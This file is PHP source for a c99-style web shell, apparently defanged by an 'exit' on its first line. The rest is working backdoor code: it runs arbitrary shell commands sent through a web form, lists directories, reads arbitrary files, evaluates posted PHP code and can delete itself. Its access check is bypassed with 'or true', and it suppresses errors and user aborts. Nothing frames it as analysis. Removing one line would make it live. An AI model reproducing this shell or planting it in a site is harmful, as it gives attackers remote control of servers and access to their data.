<?php exit; /* inert */ 
error_reporting(5);
@ignore_user_abort(TRUE);
$shver = "1.0 pre-release build";
$surl_autofill_include = TRUE;
if (!empty($_SERVER['PHP_AUTH_USER']) or true) {
  if (!isset($act)) { $act = @$_REQUEST['act']; }
  if (!isset($d)) { $d = @$_REQUEST['d']; }
  function c99fsearch($d) { $h = opendir($d); while (($o = readdir($h)) !== FALSE) { if ($o != "." && $o != "..") echo "<a href=\"?act=f&f=$o&d=$d\">$o</a><br>"; } closedir($h); }
  function myshellexec($cmd) {
    $result = "";
    if (!empty($cmd)) {
      if (is_callable("exec")) { exec($cmd,$result); $result = join("\n",$result); }
      elseif (($result = `$cmd`) !== FALSE) {}
      elseif (is_callable("system")) { ob_start(); system($cmd); $result = ob_get_contents(); ob_clean(); }
    }
    return $result;
  }
  if ($act == "cmd") { $cmd = $_POST['cmd']; echo "<textarea cols=122 rows=20>".htmlspecialchars(myshellexec($cmd))."</textarea>"; }
  elseif ($act == "ls") { c99fsearch($d); }
  elseif ($act == "f") { $r = file($d.$_REQUEST['f']); echo "<pre>".htmlspecialchars(implode("",$r)); }
  elseif ($act == "eval") { eval($_POST['eval']); }
  elseif ($act == "selfremove") { unlink(__FILE__); }
  echo "<form method=POST><input name=act value=cmd type=hidden><input name=cmd size=100><input type=submit value=Execute></form>";
}
